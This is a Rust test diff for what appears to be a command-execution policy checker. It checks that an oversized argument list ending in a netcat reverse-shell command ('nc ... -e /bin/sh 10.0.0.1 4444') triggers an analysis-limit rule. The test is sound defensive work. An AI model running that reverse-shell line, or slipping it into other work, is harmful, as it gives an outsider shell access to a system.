@@ -287,7 +287,17 @@ fn hostile_input_is_bounded() {
         "{fired:?}"
     );
     assert!(d.action >= Action::Annotate);
-    let many: Vec<&str> = std::iter::repeat_n("x", 100_000).collect();
+    // Arguments beyond the limit are not analysed, and that is said.
+    let mut many: Vec<&str> = vec!["nc"];
+    many.extend(std::iter::repeat_n("x", 100_000));
+    many.extend(["-e", "/bin/sh", "10.0.0.1", "4444"]);
     let d = exec(&policy, &many, false);
-    assert_eq!(d.action, Action::Allow);
+    assert!(
+        rules(&d).contains(&"exec-analysis-limit".to_string()),
+        "{:?}",
+        rules(&d)
+    );
+    let huge = "a".repeat(100_000);
+    let d = exec(&policy, &["cat", &huge], false);
+    assert!(rules(&d).contains(&"exec-analysis-limit".to_string()));
 }
